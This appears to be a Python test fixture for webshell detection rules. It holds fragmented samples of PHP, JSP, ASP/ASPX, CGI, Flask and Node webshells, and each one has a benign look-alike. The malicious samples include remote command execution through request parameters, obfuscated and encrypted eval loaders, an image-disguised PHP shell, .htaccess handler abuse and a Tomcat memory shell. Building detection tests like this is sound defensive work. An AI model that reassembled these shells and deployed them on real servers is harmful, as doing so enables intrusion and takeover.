"""Samples of rules/webshell."""

from tests.rules.sample import Sample, inert

# The names that rules look for, in two halves each.
GET, POST, REQUEST, COOKIE = (("$_G", "ET"), ("$_PO", "ST"), ("$_REQ", "UEST"), ("$_COO", "KIE"))
EVAL, ASSERT, SYSTEM = (("ev", "al"), ("ass", "ert"), ("sys", "tem"))
PHP = ("<?p", "hp ")
PACKED = "eJwrSy1R0FVITUlRMDJQSCtKTVVIyVcoLk0uSi0p1lFIzMsvAUqVFpUBAIsADUk="

PHP_SAMPLES = (
    Sample(
        "Webshell_PHP_EvalRequest",
        (
            inert(*PHP, "@", *EVAL, "(", *POST, "['pass']);?>"),
            inert(*PHP, *ASSERT, "(base64_decode(", *REQUEST, "{'x'})); ?>"),
            inert(
                *PHP, *EVAL, "(gzinflate(base64_decode(file_get_", "contents('php://", "input'))));"
            ),
            inert(*PHP, "include('data://", "text/plain;base64,AAAA'); ?>"),
        ),
        (
            inert(*PHP, "$name = ", *POST, "['name']; echo htmlspecialchars($name); ?>"),
            inert("element.", *EVAL, "(request)\n", *PHP, *EVAL, "($template); ?>"),
        ),
        "index.php",
    ),
    Sample(
        "Webshell_PHP_CommandRequest",
        (
            inert(*PHP, *SYSTEM, "(", *GET, "['cmd']); ?>"),
            inert(*PHP, "echo shell_", "exec(base64_decode(", *POST, "['c']));"),
            inert(*PHP, "echo `", *REQUEST, "[c]`; ?>"),
            inert(*PHP, "pass", 'thru("/bin/sh -c ".', *COOKIE, "['c']);"),
        ),
        (
            inert(*PHP, "$db->", *SYSTEM, "('uptime'); echo ", *GET, "['page']; ?>"),
            inert(*PHP, "$query = 'SELECT `id` FROM t'; $id = (int) ", *GET, "['id']; ?>"),
        ),
        "status.php",
    ),
    Sample(
        "Webshell_PHP_CommandFromVariable",
        (
            inert(
                *PHP,
                "if(isset(",
                *REQUEST,
                "['cmd'])){$cmd=(",
                *REQUEST,
                "['cmd']);",
                *SYSTEM,
                "($cmd);die;}?>",
            ),
            inert(*PHP, "$c = base64_decode(", *POST, "['c']); @", *EVAL, "($c);"),
        ),
        (
            inert(*PHP, "$name = ", *POST, "['name']; $db->exec($query);"),
            inert(*PHP, "$host = ", *POST, "['host']; ", *SYSTEM, "('uptime');"),
        ),
        "cmd.php",
    ),
    Sample(
        "Webshell_PHP_FunctionFromRequest",
        (
            inert(*PHP, *GET, "['f'](", *POST, "['a']); ?>"),
            inert(*PHP, "$f = ", *REQUEST, "['f']; $f(", *REQUEST, "['a']); ?>"),
            inert(*PHP, "call_user_func(", *GET, "['f'], 1); ?>"),
            inert(*PHP, "array_map('ass'.'ert', array(", *POST, "['x'])); ?>"),
        ),
        (
            inert(*PHP, "$f = 'render_' . basename(", *GET, "['page']); $f(); ?>"),
            inert(*PHP, "array_map('trim', ", *POST, "['names']); ?>"),
        ),
    ),
    Sample(
        "Webshell_PHP_PackedEval",
        (
            inert(*PHP, *EVAL, "(gzun", "compress(base64_", "decode('", PACKED, "'))); ?>"),
            inert(*PHP, "$x = '", PACKED * 8, "'; ", *EVAL, "(base64_", "decode($x)); ?>"),
            inert(*PHP, *EVAL, "(substr(file_get_", "contents(__FI", "LE__), 99)); ?>"),
        ),
        (
            inert(*PHP, "$x = gzun", "compress(base64_", "decode('", PACKED, "')); ?>"),
            inert(*PHP, *EVAL, "(base64_", "decode('cGhwaW5mbygpOw==')); ?>"),
        ),
    ),
    Sample(
        "Webshell_PHP_PregReplaceEval",
        (
            inert(*PHP, "preg_", 'replace("/.*/e", ', *POST, "['x'], 'a'); ?>"),
            inert(*PHP, "preg_", "replace('#x#ie', 'ev", "al(base64_", "decode(\"x\"))', 'x'); ?>"),
        ),
        (
            inert(*PHP, "preg_", "replace('/e/', 'E', ", *POST, "['x']); ?>"),
            inert(*PHP, "preg_", "replace('/[^a-z]/i', '', ", *GET, "['x']); ?>"),
        ),
    ),
    Sample(
        "Webshell_PHP_Weevely",
        (
            inert(
                *PHP,
                '$G=\'$k="aQ1QbQ2Q";$Qkh="";\';\n$N=str_re',
                "place('Fj','','crFjeaFjte_FjfunFj');\n",
            )
            + inert("$u=str_re", "place('Q','',$G.$W.$A);\n$E=$N('',", "$u);$E();\n?>"),
            inert(
                *PHP, '$k="1a2b";preg_match("/$kh', '(.+)$kf/",@file_get_contents("php://x"),$m);'
            )
            + inert("@ev", "al(@gzuncompress(@x(@base64_", "decode($m[1]),$k)));"),
        ),
        (
            inert(
                *PHP,
                "$a=str_re",
                "place('Q','',$G);\n$b = str_re",
                "place('x', '', $long_value);\n",
            )
            + inert("$f = fopen('', 'r'); $f();\n?>"),
        ),
    ),
    Sample(
        "Webshell_PHP_EncryptedChannel",
        (
            inert(*PHP, "@error_reporting(0); $post=file_get_contents('php://", "input');\n")
            + inert(
                "for($i=0;$i<strlen($post);$i++) { $post[$i] = $post[$i]^$key[$i+1", "&15]; }\n"
            )
            + inert("$arr=explode('|',$post); ev", "al($arr[1]);"),
            inert(
                *PHP,
                "$post=openssl_",
                'decrypt(file_get_contents("php://',
                'input"), "AES128", $key);',
            )
            + inert("$post=openssl_", 'decrypt($post, "AES1', '28", $key);$a=explode("|", $post);')
            + inert("class C{public function __invo", "ke($p) {ev", "al($p.'');}}"),
        ),
        (
            inert(*PHP, "$b = $data[$i] ^ $key[$i+1", "&15]; echo $b;"),
            inert(
                *PHP, "$plain=openssl_", "decrypt($data, 'AES-128-CBC', $key, 0, $iv); echo $plain;"
            ),
        ),
    ),
    Sample(
        "Webshell_PHP_InsideImage",
        (
            inert("GIF", "89a\x01\x00\x01\x00\n", *PHP, *SYSTEM, "(", *GET, "['c']); ?>"),
            inert(
                b"\xff\xd8\xff\xe0",
                "\0\x10JFIF",
                "\0" * 99,
                *PHP,
                "ev",
                "al(base64_",
                "decode('x'));",
            ),
        ),
        (
            inert("GIF", "89a\x01\x00\x01\x00\n", "<?xpacket begin=''?>", "\0" * 99),
            inert(b"\xff\xd8\xff\xe0", "\0\x10JFIF", *PHP, "echo 'a picture about PHP'; ?>"),
        ),
        "avatar.gif",
    ),
    Sample(
        "Webshell_PHP_EscapedNames",
        (
            inert(*PHP, '$f="\\x62\\x61\\x73', '\\x65\\x36\\x34\\x5f\\x64";', " $f('x'); ?>"),
            inert(*PHP, '$f="\\141\\163\\163', '\\145\\162\\164"; $f(1); ?>'),
            inert(*PHP, "$f = 'as'", ".'sert'; $f(1); ?>"),
        ),
        (
            inert(*PHP, '$mark = "\\xef\\xbb\\xbf\\x65"; ?>'),
            inert('var s = "\\x65\\x76', '\\x61\\x6c";'),
        ),
    ),
    Sample(
        "Webshell_PHP_NoLetters",
        (
            inert(*PHP, '$_=[];$_=@"$_";', "$_+", "+;" * 1, *(("$__", "++;") * 14), "$_($___);"),
            inert(*PHP, "$_=('!((%)('", "^'@[[@[\\\\');", "$__=('!+)'", "^'@[]');$_($__);"),
        ),
        (
            inert(*PHP, *(("$__", "++;") * 9)),
            inert(*PHP, "$i_++;" * 9, " $a = ('^'", "^'|');"),
        ),
    ),
    Sample(
        "Webshell_PHP_FullConsole",
        (
            inert(
                *PHP,
                "echo ini_get('disable_",
                "functions').php_una",
                "me(); $p=posix_get",
                "pwuid(",
            )
            + inert(
                "fileo", "wner($f));if(function_exists('shell_exec')) shell_", "exec($c); else "
            )
            + inert("pass", "thru($c); @", "exec($c,$o);"),
        ),
        (
            inert(*PHP, "echo ini_get('disable_", "functions').php_una", "me(); ")
            + inert("$out = shell_", "exec($command); pass", "thru($command);"),
        ),
    ),
    Sample(
        "Webshell_PHP_Uploader",
        (
            inert(
                *PHP,
                "if($_FIL",
                "ES) copy($_FIL",
                "ES['f']['tmp_",
                "name'], $_FIL",
                "ES['f']['name']); ?>",
            )
            + inert("<form method=post enctype='multipart/form", "-data'><input type=file name=f>"),
        ),
        (
            inert(
                *PHP,
                "session_start(); copy($_FIL",
                "ES['f']['tmp_",
                "name'], $_FIL",
                "ES['f']['name']); ?>",
            )
            + inert("<form method=post enctype='multipart/form", "-data'><input type=file name=f>"),
            inert(*PHP, "move_uploaded_file($_FIL", "ES['f']['tmp_", "name'], $safe_path); ?>")
            + inert("<form method=post enctype='multipart/form", "-data'><input type=file name=f>"),
        ),
        "up.php",
    ),
    Sample(
        "Webshell_ChinaChopper_Traffic",
        (
            inert(
                'z0=@ini_set("display',
                '_errors","0");@set_time_limit(0);@set_magic_quotes_runtime(0);',
            )
            + inert('echo("-', '>|");'),
            inert(
                "POST /x.php z0=QGluaV9zZXQoImRpc3BsYXlf",
                "ZXJyb3JzIiwiMCIpO0BzZXRfdGltZV9saW1pdCgwKTt",
            ),
        ),
        (inert('@ini_set("display', '_errors","0");@set_time_limit(0);', "include 'cron.php';"),),
        "",
    ),
)

SERVER_SAMPLES = (
    Sample(
        "Webshell_Htaccess_HandlerAbuse",
        (
            inert("AddType application/x-", "httpd-php .jpg\n"),
            inert(
                '<FilesMatch "\\.(png|txt)$">\n  Set',
                "Handler application/x-",
                "httpd-php\n</FilesMatch>",
            ),
            inert("Options -Indexes\nphp_value auto_", "prepend_file /tmp/.x.png\n"),
            inert("AddType text/plain .txt\n# <?p", "hp sys", "tem('id'); ?>\n"),
        ),
        (
            inert("AddType application/x-", "httpd-php .php .phtml .html\n"),
            inert(
                '<FilesMatch "\\.php$">\n  Set',
                "Handler application/x-",
                "httpd-php\n</FilesMatch>",
            ),
            inert("php_value auto_", "prepend_file /var/www/app/bootstrap.php\n"),
        ),
        ".htaccess",
    ),
)

JAVA_CLASS = b"\xca\xfe\xba\xbe\0\0\0\x34"
JSP_SAMPLES = (
    Sample(
        "Webshell_JSP_CommandRequest",
        (
            inert("<% Runtime.getRuntime().exec(request.get", 'Parameter("cmd")); %>'),
            inert('<%@ page import="java.io.*" %><% String c = request.get', 'Parameter("c");')
            + inert(" Process p = new ProcessBui", 'lder("/bin/sh", "-c", c).start();')
            + inert(" InputStream in = p.getInput", "Stream(); out.print(in.read()); %>"),
        ),
        (
            inert("<% String name = request.get", 'Parameter("name"); out.print(name); %>'),
            inert('<% Runtime.getRuntime().exec("/usr/bin/convert a.png b.png"); %>'),
        ),
        "help.jsp",
    ),
    Sample(
        "Webshell_JSP_ClassFromRequest",
        (
            inert(
                '<%@page import="javax.crypto.*"%><%!class U extends Class', "Loader{public Class g"
            )
            + inert(
                "(byte []b){return super.define", "Class(b,0,b.length);}}%><%Cipher c=Cipher.get"
            )
            + inert('Instance("AES");new U().g(c.doFinal(request.get', "Reader().readLine()))")
            + inert(".new", "Instance().equals(pageContext);%>"),
        ),
        (
            inert('<%@page import="java.util.Base64"%><%= Base64.getDecoder().decode(request.get')
            + inert('Parameter("t")) %>'),
        ),
        "login.jsp",
    ),
    Sample(
        "Webshell_Java_MemoryShell",
        (
            inert(JAVA_CLASS, "org/apache/catalina/core/Standard", "Context\0setAccessible\0")
            + inert("addFilterMap", "Before\0java/lang/Run", "time\0"),
        ),
        (
            inert(JAVA_CLASS, "org/apache/catalina/core/Standard", "Context\0setAccessible\0")
            + inert("addFilterMap", "Before\0java/lang/String\0"),
            inert("org/apache/catalina/core/Standard", "Context\0setAccessible\0addFilterMap")
            + inert("Before\0java/lang/Run", "time\0"),
        ),
        "Filter.class",
    ),
)

ASP_SAMPLES = (
    Sample(
        "Webshell_ASP_EvalRequest",
        (
            inert("<%", *EVAL, ' request("x")%>'),
            inert('<%@ Page Language="Jscript"%><%', *EVAL, '(Request.Item["x"],"unsafe");%>'),
            inert("<script runat=server language=vbscript>exe", 'cute(request.form("x"))</script>'),
        ),
        (
            inert('<% name = request("x") : ', *EVAL, "_result = 1 %>"),
            inert("<% conn.Exe", "cute request_sql %>"),
        ),
        "error.asp",
    ),
    Sample(
        "Webshell_ASPX_CommandRequest",
        (
            inert(
                '<%@ Page Language="C#" %><% var p = new ProcessStart',
                'Info("cmd.',
                'exe", "/c " + ',
            )
            + inert('Request["c"]); p.Redirect', "StandardOutput = true; %>"),
        ),
        (
            inert('<%@ Page Language="C#" %><% var p = new ProcessStart', 'Info("convert.exe", ')
            + inert('Request["c"]); p.Redirect', "StandardOutput = true; %>"),
        ),
        "error.aspx",
    ),
    Sample(
        "Webshell_ASPX_AssemblyFromRequest",
        (
            inert(
                '<%@ Page Language="Jscript"%><%var b=Request.Binary',
                "Read(Request.ContentLength);",
            )
            + inert("System.Reflection.Assembly.Lo", "ad(new Rijndael", "Managed().CreateDecryptor")
            + inert(
                "(k,k).TransformFinalBlock(b,0,9)).Create", 'Instance("U").Equals', "(this);%>"
            ),
        ),
        (
            inert('<%@ Page Language="C#"%><%var b=Request.Binary', "Read(Request.ContentLength);")
            + inert("new Rijndael", "Managed().CreateDecryptor(k,k).TransformFinalBlock(b,0,9);%>"),
        ),
        "error.aspx",
    ),
)

CGI_SAMPLES = (
    Sample(
        "Webshell_CGI_CommandRequest",
        (
            inert(
                "#!/usr/bin/env python3\nform = cgi.FieldStorage()\nc = form.get",
                "value('cmd', '')\nprint('Content",
                "-Type: text/plain')\n",
                "print(os.po",
                "pen(c).read())\n",
            ),
            inert(
                "#!/usr/bin/perl\nprint 'Content",
                "-type: text/plain';\nmy $cmd = $q->pa",
                "ram('x');\nprint sys",
                "tem($cmd);\n",
            ),
            inert(
                '#!/bin/bash\necho "Content',
                '-type: text/plain"\necho\nbash',
                ' -c "$QUERY_',
                'STRING"\n',
            ),
            inert(
                '#!/usr/bin/perl\nprint "Content',
                '-type: text/html\\n\\n";\nsys',
                "tem(pa",
                "ram('cmd'));\n",
            ),
            inert(
                "#!/usr/bin/python3\nprint('Content",
                "-type: text/html')\nprint(os.pop",
                "en(form.get",
            )
            + inert("value('cmd')).read())\n"),
        ),
        (
            inert(
                '#!/bin/bash\necho "Content', '-type: text/plain"\necho\necho "$QUERY_', 'STRING"\n'
            ),
            inert(
                '#!/usr/bin/perl\nprint "Content',
                '-type: text/html\\n\\n";\nprint pa',
                "ram('name');\n",
            ),
        ),
        "status.cgi",
    ),
    Sample(
        "Webshell_Python_CommandRequest",
        (
            inert("cmd = request.ar", "gs.get('cmd')\nreturn os.po", "pen(cmd).read()\n"),
            inert(
                "@app.route('/')\ndef x():\n    return os.po",
                "pen(request.ar",
                "gs.get('cmd')).read()\n",
            ),
            inert("exec(base64.b64", "decode(request.fo", "rm['x']))\n"),
        ),
        (
            inert("subprocess.r", "un(['convert', path(request.ar", "gs['name'])])\n"),
            inert("evaluate(request.ar", "gs)\n"),
        ),
        "app.py",
    ),
    Sample(
        "Webshell_Node_CommandRequest",
        (
            inert(
                "const {exec} = require('child_",
                "process');\nconst cmd = req.qu",
                "ery.cmd;\nexec(cm",
                "d, done);\n",
            ),
            inert("const {exec} = require('child_", "process');\nexec(req.qu", "ery.cmd, done);\n"),
            inert("app.get('/', (req, res) => res.send(ev", "al(req.bo", "dy.x)));\n"),
        ),
        (
            inert(
                "const {exec} = require('child_",
                "process');\nexec('ls', () => send(req.qu",
                "ery.cmd));\n",
            ),
            inert("pattern.exec(req.qu", "ery.name);\n"),
        ),
        "server.js",
    ),
)

SAMPLES: tuple[Sample, ...] = (
    *PHP_SAMPLES,
    *SERVER_SAMPLES,
    *JSP_SAMPLES,
    *ASP_SAMPLES,
    *CGI_SAMPLES,
)
